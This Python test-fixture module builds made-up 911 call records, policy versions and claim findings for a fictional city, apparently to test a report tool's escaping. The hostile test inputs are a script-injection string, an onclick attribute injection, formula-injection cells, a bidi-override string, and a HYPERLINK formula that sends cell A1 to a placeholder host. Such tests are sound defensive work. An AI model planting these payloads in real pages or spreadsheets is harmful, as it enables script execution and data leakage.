"""A made-up examination with every kind of finding, and text that tries to break out of wherever it is put."""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from random import Random
from zoneinfo import ZoneInfo

from answerable.model.call import Inclusion
from answerable.model.claim import ClaimKind, Evidence
from answerable.model.examination import (
    Description,
    Examination,
    IntervalStatistic,
    LateDistribution,
    MonthCoverage,
    PolicyInForce,
    ReportRow,
    WaitBound,
    WaitBounds,
)
from answerable.model.finding import CallInScope, ClaimFinding, Finding, PassageVerdict, Verdict
from answerable.model.outcome import IGNORED, Outcome, Reason
from answerable.model.source import CanAnswer, ClockOffset, FileSeal, Rows, SourceManifest
from answerable.model.times import to_us

ZONE = ZoneInfo("America/Los_Angeles")
HOSTILE = "</script><img src=x onerror=alert(1)>"
BIDI = "caller said \u202eetirw ton did\u202c and hung up"
ARABIC = "\u0627\u0644\u0645\u062a\u0635\u0644 \u0637\u0644\u0628 \u0627\u0644\u0645\u0633\u0627\u0639\u062f\u0629"
LONG_WORD = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 3
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'

_START = datetime(2018, 6, 1, 0, 0, tzinfo=ZONE)
_OUTCOMES = (
    (Outcome.ANSWERED, 250),
    (Outcome.ANSWERED_LATE, 58),
    (Outcome.UNDETERMINED, 141),
    (Outcome.NONE_OWED, 82),
    (Outcome.MERGED, 21),
    (Outcome.WITHDRAWN, 14),
    (Outcome.HANDED_OVER, 9),
    (Outcome.UNHEARD, 7),
    (Outcome.CLOSED_WITHOUT_REASON, 5),
    (Outcome.SENT_NOT_ARRIVED, 4),
    (Outcome.PENDING, 4),
    (Outcome.DECLINED_WITHIN_POLICY, 3),
    (Outcome.DECLINED_AGAINST_POLICY, 2),
)
_REASONS = (
    (Reason.TIME_NOT_RECORDED, 60),
    (Reason.WHO_ENDED_IT, 41),
    (Reason.FACT, 22),
    (Reason.UNKNOWN_CODE, 9),
    (Reason.CALLBACK_NOT_RECORDED, 6),
    (Reason.CLOCK_OFFSET, 3),
)
_TYPES = (
    "Assault in progress",
    "Threat",
    "Welfare check",
    "Disturbance",
    "Vandalism",
    "Officer needs assistance",
    "Suspicious package",
    "Burglary alarm",
    "Traffic hazard",
    "Request for resources",
)
_LIMITS_S = (300, 900, 3600, 14_400)


def digest(text: str) -> str:
    """A stand-in SHA-256."""
    return sha256(text.encode()).hexdigest()


def sample_rows(count: int = 600, *, seed: int = 2018) -> tuple[ReportRow, ...]:
    """Calls of one made-up summer, in the order of receipt; the first few carry hostile text."""
    random = Random(seed)
    outcomes = random.choices([o for o, _ in _OUTCOMES], [n for _, n in _OUTCOMES], k=count)
    outcomes[: len(_OUTCOMES)] = [outcome for outcome, _ in _OUTCOMES][:count]
    at = sorted(_START + timedelta(seconds=random.randrange(0, 92 * 86_400)) for _ in range(count))
    rows = [_row(random, n, at[n], outcomes[n]) for n in range(count)]
    return tuple(_hostile(row, n) for n, row in enumerate(rows))


def _row(random: Random, n: int, at: datetime, outcome: Outcome) -> ReportRow:
    priority = random.choices(range(4), (1, 3, 4, 2))[0]
    limit = _LIMITS_S[priority]
    waited = _wait(random, outcome, limit)
    reason = random.choices([r for r, _ in _REASONS], [w for _, w in _REASONS])[0]
    undetermined = outcome is Outcome.UNDETERMINED
    owed = outcome not in (Outcome.NONE_OWED, Outcome.MERGED)
    return ReportRow(
        call=f"P18-{100_000 + n * 37}",
        received=at.astimezone(ZONE).isoformat(sep=" ", timespec="seconds"),
        type=random.choice(_TYPES),
        priority=str(priority),
        district=random.choice(("Central", "North", "East", "Harbor")),
        beat=str(random.randrange(100, 140)),
        outcome=outcome,
        reason=reason if undetermined else "",
        facts="life_safety" if undetermined and reason is Reason.FACT else "",
        carried=Outcome.ANSWERED if outcome is Outcome.MERGED else "",
        duty="must-respond" if owed else "",
        rule="emergency-help" if owed else "",
        policy_version="2018-01-01" if owed else "",
        limit_s=limit if owed else None,
        waited_s=waited,
        because=_because(outcome, limit, waited),
        claims=tuple(claim for claim, wanted in (("federal-calls", n % 9 == 0), ("june", n % 4 == 0)) if wanted),
    )


def _wait(random: Random, outcome: Outcome, limit: int) -> int | None:
    if outcome is Outcome.ANSWERED:
        return int(limit * random.betavariate(1.4, 2.5))
    if outcome is Outcome.ANSWERED_LATE:
        return int(limit * (1.02 + random.expovariate(0.7)))
    return int(limit * random.random()) if outcome is Outcome.SENT_NOT_ARRIVED else None


def _because(outcome: Outcome, limit: int, waited: int | None) -> str:
    if waited is not None:
        return f"The first unit was sent {waited // 60} min after receipt; the policy allows {limit // 60} min."
    return {
        Outcome.UNHEARD: f"Nobody was sent and nobody decided within {limit // 60} min, in a record that shows both.",
        Outcome.UNDETERMINED: "Something was done, and the record does not say enough to hold it against the clock.",
        Outcome.NONE_OWED: "An officer began it; nobody was waiting.",
        Outcome.MERGED: "Recorded as a duplicate of an earlier call.",
    }.get(outcome, "See the decision on record.")


def _hostile(row: ReportRow, n: int) -> ReportRow:
    fields = {name: getattr(row, name) for name in row.__struct_fields__}
    fields |= {
        0: {"type": HOSTILE, "because": f"<b>{HOSTILE}</b> & \u2028 ]]> <!--"},
        1: {"type": FORMULA, "district": "-East", "beat": "@12"},
        2: {"because": BIDI, "type": ARABIC},
        3: {"type": LONG_WORD, "district": LONG_WORD[:70]},
    }.get(n, {})
    return ReportRow(**fields)


def _us(month: int, day: int, hour: int, minute: int = 0) -> int:
    return to_us(datetime(2018, month, day, hour, minute, tzinfo=ZONE))


def _call(call: str, at_us: int, outcome: Outcome, because: str, reason: Reason | None = None) -> CallInScope:
    return CallInScope(
        call=call, received_us=at_us, outcome=outcome, reason=reason, rule="life-safety", because=because
    )


def _finding(
    n: int, kind: ClaimKind, text: str, finding: Finding | Verdict, answer: str, **more: object
) -> ClaimFinding:
    fields: dict[str, object] = {
        "id": f"claim-{n:02}",
        "kind": kind,
        "text": text,
        "alleged_by": "Harbor Officers' Union, press release of 20 June 2018",
        "status": "proposed",
        "finding": finding,
        "cannot_be_determined": False,
        "answer": answer,
        "rule": f"{kind}: {finding}",
        "because": (answer,),
        "calls": (),
        "figures": {"calls_in_scope": 41, "unheard": 1, "answered_late": 6, "answered": 30},
        "limits": ("The record begins when the call was entered; how long the telephone rang is not in it.",),
        "would_change": ("The telephone switch's own list of calls for the same days.",),
        "claim_sha256": digest(f"claim {n}"),
    }
    return ClaimFinding(**{**fields, **more})  # type: ignore[arg-type]


def _email(*, checked: bool = True) -> Evidence:
    return Evidence(
        id="email-19-june",
        kind="e-mail",
        file="2018-06-19-deputy-chief.eml",
        sha256=digest("email"),
        size_bytes=4312,
        sender="Deputy Chief, Alder City Police",
        dated_us=_us(6, 19, 15, 42),
        passages=(
            "we will not be providing additional resources at this time",
            "officers will respond if your people are assaulted and need a safe way out",
        ),
        passages_checked=checked,
        about=("RFA-18-0031",),
    )


def _statement() -> ClaimFinding:
    verdicts = (
        (
            "No policy of ignoring 911 calls exists.",
            Verdict.SUPPORTED,
            "No version in force lets a call with life_safety go without a duty to respond; each was tried.",
        ),
        (
            "Every call from the building was answered.",
            Verdict.CONTRADICTED,
            "Call P18-100111 was unheard: nobody was sent and nobody decided within 5 min.",
        ),
        ("Officers came quickly each time.", Verdict.PARTLY, "30 of 41 calls were answered in time, 6 late."),
        ("Nobody meant to punish anyone.", Verdict.CANNOT_BE_DETERMINED, "Intent is not in any record of calls."),
    )
    return _finding(
        10,
        ClaimKind.STATEMENT,
        "The mayor's statement of 21 June 2018",
        Verdict.PARTLY,
        "one passage is supported, one contradicted, one holds in part, and one cannot be determined.",
        alleged_by="Office of the Mayor",
        passages=tuple(
            PassageVerdict(
                quote=quote,
                verdict=verdict,
                because=why,
                calls=("P18-100111",) if verdict is Verdict.CONTRADICTED else (),
                evidence="email-19-june" if verdict is Verdict.SUPPORTED else None,
            )
            for quote, verdict, why in verdicts
        ),
    )


def sample_claims() -> tuple[ClaimFinding, ...]:
    """Twelve findings: each of the five, "cannot be determined", a statement, and one with hostile text."""
    ignored, denied, policy = ClaimKind.CALLS_IGNORED, ClaimKind.REQUEST_DENIED, ClaimKind.POLICY_EXISTS
    unheard = _call(
        "P18-100111",
        _us(6, 12, 23, 14),
        Outcome.UNHEARD,
        "Nobody was sent and nobody decided within 5 min; the record shows dispatches and decisions without a gap.",
    )
    return (
        _finding(
            1,
            ignored,
            "Police ignored 911 calls from the federal building between 8 and 20 June",
            Finding.SUSTAINED,
            "1 of 41 calls in scope was unheard; 6 more were answered late.",
            id="federal-calls",
            calls=(unheard,),
            because=(
                "Call P18-100111 of 12 June, 23:14, is unheard: nobody was sent, and its limit of 5 min passed.",
                "For this window the record shows dispatches without a gap, so its silence has a meaning.",
                "30 calls were answered in time, 6 late, 4 are undetermined.",
            ),
        ),
        _finding(
            2,
            ignored,
            "Calls for help in June went unanswered",
            Finding.NOT_SUSTAINED,
            "none found in this file; 12 of 150 calls in scope are undetermined, so the scope is not complete.",
            id="june",
            figures={"calls_in_scope": 150, "undetermined": 12, "answered": 121},
        ),
        _finding(
            3,
            policy,
            "The bureau has a policy of ignoring 911 calls from federal officers",
            Finding.UNFOUNDED,
            "no version in force permits it for any possible call, and the set of versions is attested as complete.",
            figures={"versions": 2, "possible_calls_tried": 41_472},
        ),
        _finding(
            4,
            denied,
            "On 19 June the bureau refused the federal request for additional resources",
            Finding.EXONERATED,
            "the request was declined, and the clause agency-resources of version 2018-01-01 allows that.",
            calls=(
                _call(
                    "RFA-18-0031",
                    _us(6, 19, 14, 5),
                    Outcome.DECLINED_WITHIN_POLICY,
                    "Declined by a deputy chief within 60 min, with a reason, under clause agency-resources.",
                ),
            ),
            evidence=(_email(),),
            figures={"requests": 1},
        ),
        _finding(
            5,
            denied,
            "A sergeant turned down a request of the county sheriff on 2 July",
            Finding.SUSTAINED,
            "the request was declined against policy: the clause asks for a watch commander.",
            calls=(
                _call(
                    "RFA-18-0040",
                    _us(7, 2, 3, 30),
                    Outcome.DECLINED_AGAINST_POLICY,
                    "Declined by a sergeant; the duty may be declined by a watch commander or above.",
                ),
            ),
        ),
        _finding(
            6,
            ignored,
            "Calls made through the county's text service were ignored",
            Finding.NOT_SUSTAINED,
            "calls by text are not part of this file.",
            cannot_be_determined=True,
            figures={"calls_in_scope": 0},
        ),
        _finding(
            7,
            ignored,
            "The 911 call of 3 July, 14:02, was ignored",
            Finding.UNFOUNDED,
            "the call was answered in time: a unit was sent after 2 min 10 s and arrived after 9 min.",
            calls=(
                _call("P18-107777", _us(7, 3, 14, 2), Outcome.ANSWERED, "Sent after 2 min 10 s; the limit is 5 min."),
            ),
        ),
        _finding(
            8,
            ignored,
            "Requests of the harbor authority for boats were ignored",
            Finding.POLICY_FAILURE,
            "no rule of the policy in force covers them.",
            calls=(_call("RFA-18-0052", _us(8, 1, 9), Outcome.UNDETERMINED, "No rule applies.", Reason.NO_RULE),),
        ),
        _finding(
            9,
            policy,
            "The policy lets a request with officers trapped be declined",
            Finding.POLICY_FAILURE,
            "version 2017-01-01 permits it: a possible call is shown below.",
            figures={},
        ),
        _statement(),
        _finding(
            11,
            denied,
            "The fire bureau refused to stage an ambulance",
            Finding.NOT_SUSTAINED,
            "Cannot be determined from this source: it holds police calls only.",
            cannot_be_determined=True,
            evidence=(_email(checked=False),),
        ),
        _finding(
            12,
            ignored,
            f"{HOSTILE} {ARABIC} {LONG_WORD}",
            Finding.NOT_SUSTAINED,
            f"{BIDI} {HOSTILE}",
            id="claim\" onclick='alert(1)'",
            alleged_by=LONG_WORD,
            limits=(HOSTILE, FORMULA),
            figures={"<b>": 1},
        ),
    )


def sample_source(**changes: object) -> SourceManifest:
    """The manifest of a made-up city's file, in which something is wrong in every way that can be said."""
    fields: dict[str, object] = {
        "source": "alder-city",
        "title": "Alder City calls for service, summer 2018",
        "publisher": "Alder City Police Bureau",
        "licence": "made up; free to use",
        "citation": "Alder City calls for service (made up), 2018",
        "verified": False,
        "profile_sha256": digest("profile"),
        "file": FileSeal(name="calls.csv", size_bytes=184_310, sha256=digest("calls")),
        "encoding": "utf-8",
        "timezone": "America/Los_Angeles",
        "grain": "unit_response",
        "inclusion": Inclusion.ALL_CALLS,
        "inclusion_evidence": "The publisher's page says: every call entered, also those without a dispatch.",
        "rows": Rows(read=742, imported=738, quarantined=3, duplicates=1),
        "calls": 600,
        "start_point": "received",
        "first_us": _us(6, 1, 0, 4),
        "last_us": _us(8, 31, 23, 51),
        "horizon_us": _us(9, 1, 0),
        "blank_means_no": {"dispatched": "every dispatched call of the publisher's own count has a time"},
        "records_callbacks": False,
        "records_origin": True,
        "clock_offset": ClockOffset(
            points=("arrived", "cleared"), ahead_from_s=20, ahead_to_s=95, evidence="118 shared events"
        ),
        "removals": ("Calls with a juvenile as victim are removed before publication.", HOSTILE),
        "can_answer": {
            "received": CanAnswer(answer="yes", because="Every call has the time it was received."),
            "sent": CanAnswer(answer="yes", because="A blank dispatch time means that nobody was sent."),
            "arrived": CanAnswer(answer="partly", because="81 % of dispatched calls have an arrival time."),
            "how_long": CanAnswer(answer="partly", because="To dispatch yes, to arrival for four calls in five."),
            "who_decided": CanAnswer(
                answer="no", because="Decisions are in no column; they were supplied beside the file."
            ),
        },
        "unlisted_codes": {"disposition": {"DEF": 9, HOSTILE: 2}, "type": {f"T{n}": 1 for n in range(30)}},
        "unlisted_facts": {},
        "quality": {
            "received": {"dst_ambiguous": 0, "minute_precision": 12},
            "arrived": {"missing": 96, "out_of_order": 4, "sentinel": 2},
            "closed": {"dst_undecided": 1, "overwritten_by_reopening": 3},
        },
        "notes": ("Headers drifted in July: 'on_scene' became 'arrived'.",),
        "parquet_sha256": digest("parquet"),
    }
    return SourceManifest(**{**fields, **changes})  # type: ignore[arg-type]


def _description(rows: tuple[ReportRow, ...]) -> Description:
    months = Counter(row.received[:7] for row in rows)
    return Description(
        coverage=tuple(_month(month, calls) for month, calls in sorted(months.items())),
        intervals=_intervals(len(rows)),
        dispositions={
            "handled": 240,
            "report": 161,
            "none": 84,
            "unable_to_locate": 44,
            "cancelled_unspecified": 41,
            "duplicate": 21,
            "unknown_code": 9,
        },
        disposition_codes={"HND": 240, "RPT": 161, "": 84, "UTL": 44, "CAN": 41, "DUP": 21, "DEF": 9},
        origins={"public_911": 371, "officer": 82, "agency": 61, "alarm": 50, "unknown": 36},
        entry_kinds={"call": 592, "test": 3, "broadcast": 5},
        dispatched={"yes": 480, "no": 111, "not_recorded": 9},
        arrived={"yes": 389, "no": 4, "not_recorded": 207},
        priorities={"2": 240, "1": 182, "3": 118, "0": 60},
    )


def _month(month: str, calls: int) -> MonthCoverage:
    shares = {"received": 1000, "entered": 998, "dispatched": 803, "enroute": 512, "arrived": 649, "closed": 1000}
    late = month == "2018-08"
    return MonthCoverage(
        month=month,
        calls=calls,
        recorded={point: calls * (s // 3 if late and point == "arrived" else s) // 1000 for point, s in shares.items()},
    )


def _intervals(calls: int) -> tuple[IntervalStatistic, ...]:
    figures = (
        ("received to dispatched", "received", "dispatched", "calls", 412, 1_122.4, 402.0, 2_640.0),
        ("received to arrived", "received", "arrived", "calls", 334, 2_262.0, 1_030.5, 5_424.0),
        ("dispatched to arrived", "dispatched", "arrived", "calls", 331, 708.0, 497.0, 1_440.0),
        ("received to closed", "received", "closed", "calls", 515, 5_710.0, 3_322.0, 13_980.0),
        ("received to arrived", "received", "arrived", "officer_initiated", 79, 12.0, 0.0, 60.0),
        ("dispatched to arrived", "dispatched", "arrived", "officer_initiated", 0, None, None, None),
    )
    return tuple(
        IntervalStatistic(
            definition=definition,
            from_point=a,
            to_point=b,
            population=population,
            counted=counted,
            left_out={
                "missing_from": 0,
                "missing_to": max(calls - 82 - counted - 4, 0),
                "out_of_order": 4,
                "uncertain": 0,
            },
            mean_s=mean,
            median_s=median,
            p90_s=p90,
            bounds=_bounds(calls - 82, counted, median, p90, mean),
        )
        for definition, a, b, population, counted, mean, median, p90 in figures
    )


def _bounds(calls: int, counted: int, median: float | None, p90: float | None, mean: float | None) -> WaitBounds | None:
    if median is None or p90 is None or mean is None:
        return None
    unknown, within = max(calls - counted, 0), {"600": counted // 2, "3600": counted * 9 // 10}
    best = {limit: n + unknown for limit, n in within.items()}
    return WaitBounds(
        calls=counted + unknown,
        unknown=unknown,
        best=WaitBound(calls_within_s=best, median_s=median * 0.8, p90_s=p90 * 0.9, mean_s=mean * 0.7),
        worst=WaitBound(calls_within_s=within, median_s=median * 1.3, p90_s=None, mean_s=None),
    )


def sample_policies() -> tuple[PolicyInForce, ...]:
    """Two versions of one policy."""
    duties = (
        {
            "id": "life-safety",
            "text": "Police respond wherever there is a life-safety concern. This may not be declined.",
            "duty": "must-respond",
            "cite": "Directive A.1",
        },
        {
            "id": "agency-resources",
            "text": "Additional resources for a federal agency may be declined until it has exhausted "
            "the alternatives.",
            "duty": "may-decline",
            "cite": "Directive B.4",
        },
        {
            "id": "other-agency",
            "text": "Any other request from an agency goes to command staff.",
            "duty": "command-decides",
            "cite": "Directive B.1",
        },
    )
    return tuple(
        PolicyInForce(
            id="alder-city/response",
            version=version,
            title="Response to calls for help and to requests of other agencies",
            issued_by="Chief of Police",
            issued_at_us=_us(1, 2, 9),
            effective_from_us=_us(1, 1, 0),
            effective_to_us=to,
            sha256=digest(version),
            calls=calls,
            duties=duties,
        )
        for version, to, calls in (("2017-01-01", _us(6, 2, 0), 6), ("2018-01-01", None, 594))
    )


def sample_examination(rows: tuple[ReportRow, ...] | None = None) -> Examination:
    """The whole made-up result over `sample_rows()`, its counts taken from the rows."""
    rows = sample_rows() if rows is None else rows
    counted = Counter(row.outcome for row in rows)
    return Examination(
        program="answerable 0.1.0",
        source=sample_source(),
        as_of_us=_us(9, 1, 0),
        description=_description(rows),
        policies=sample_policies(),
        outcomes={outcome: counted[outcome] for outcome in Outcome},
        undetermined=dict(Counter(row.reason for row in rows if row.reason)),
        undetermined_facts={"life_safety": sum(row.facts == "life_safety" for row in rows)},
        merged_as={"answered": counted[Outcome.MERGED]},
        claims=sample_claims(),
        ignored=(),
        nobody_complained=_nobody_complained(rows),
        clocks=_clocks(rows),
        limits=("Calls by text are not part of this file.", "Three rows could not be read; see calls.quarantine.csv."),
        recompute="answerable examine calls.csv --source alder-city --policy policies/ --claim claims/ --out report/",
        made_up="Alder City, its calls and its people do not exist; the story is modelled on a press report of 2018.",
    )


def _received_us(row: ReportRow) -> int:
    return to_us(datetime.fromisoformat(row.received).astimezone(UTC))


def _nobody_complained(rows: tuple[ReportRow, ...]) -> tuple[CallInScope, ...]:
    return tuple(
        CallInScope(
            call=row.call,
            received_us=_received_us(row),
            outcome=row.outcome,
            reason=None,
            rule=row.rule,
            because=row.because,
        )
        for row in rows
        if row.outcome in IGNORED and not row.claims
    )


def _clocks(rows: tuple[ReportRow, ...]) -> dict[str, tuple[LateDistribution, ...]]:
    shown = {
        Outcome.ANSWERED,
        Outcome.ANSWERED_LATE,
        Outcome.SENT_NOT_ARRIVED,
        Outcome.DECLINED_WITHIN_POLICY,
        *IGNORED,
    }
    calls = {
        claim: tuple(
            LateDistribution(
                call=row.call,
                received_us=_received_us(row),
                limit_s=row.limit_s,
                waited_s=row.waited_s,
                outcome=row.outcome,
            )
            for row in rows
            if claim in row.claims and row.limit_s is not None and row.outcome in shown
        )
        for claim in ("federal-calls", "june")
    }
    return {**calls, "claim-12": calls["june"]}


def empty_examination() -> Examination:
    """A file with a header and no calls, no policy, no claim."""
    return Examination(
        program="answerable 0.1.0",
        source=sample_source(
            title="Nothing",
            publisher="",
            licence="",
            citation="",
            inclusion=Inclusion.UNKNOWN,
            inclusion_evidence="",
            rows=Rows(read=0, imported=0, quarantined=0, duplicates=0),
            calls=0,
            start_point=None,
            first_us=None,
            last_us=None,
            horizon_us=None,
            blank_means_no={},
            clock_offset=None,
            removals=(),
            can_answer={},
            unlisted_codes={},
            quality={},
            notes=(),
        ),
        as_of_us=None,
        description=Description(
            coverage=(),
            intervals=(),
            dispositions={},
            disposition_codes={},
            origins={},
            entry_kinds={},
            dispatched={},
            arrived={},
            priorities={},
        ),
    )
